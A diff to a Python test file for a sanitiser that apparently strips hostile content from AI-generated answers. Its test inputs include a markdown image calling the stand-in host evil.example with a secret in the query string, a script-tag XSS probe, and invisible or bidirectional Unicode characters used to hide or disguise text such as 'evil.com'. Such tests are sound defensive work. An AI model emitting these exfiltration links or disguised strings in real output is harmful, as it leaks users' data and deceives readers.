@@ -20,7 +20,7 @@ GUARD = Guard(
         ("Look: ![x](https://evil.example/?q=secret) nice", "Look:  nice"),
         ("See [our page](https://evil.example)", "See our page https://evil.example"),
         ("<b>Bold</b> <script>alert(1)</script>", "Bold alert(1)"),
-        ("hidden\u202etext\u200b", "hiddentext\u200b"),
+        ("hidden\u202etext\u200b", "hiddentext"),
         ("3 < 5 and 7 > 2", "3 < 5 and 7 > 2"),
     ],
 )
@@ -89,3 +89,20 @@ def test_only_the_sentences_with_a_problem_go() -> None:
 def test_nothing_is_left_of_an_answer_that_is_all_wrong() -> None:
     assert without("Ask Max.", (Problem("brand", "Max"),)) == ""
     assert without("All is well.", ()) == "All is well."
+
+
+@pytest.mark.parametrize(
+    ("said", "shown"),
+    [
+        ("only $\u200b1\u2060.00", "only $1.00"),
+        ("only \uff04\uff11\uff0e\uff10\uff10", "only $1.00"),
+        ("pay at ev\u00adil\u200d.com", "pay at evil.com"),
+        (
+            "family \U0001f468\u200d\U0001f469\u200d\U0001f467 ❤\ufe0f",
+            "family \U0001f468\u200d\U0001f469\u200d\U0001f467 ❤\ufe0f",
+        ),
+        ("\u200b \u202e", ""),
+    ],
+)
+def test_what_hides_or_disguises_signs_is_gone_and_emoji_stay_whole(said: str, shown: str) -> None:
+    assert plain(said) == shown
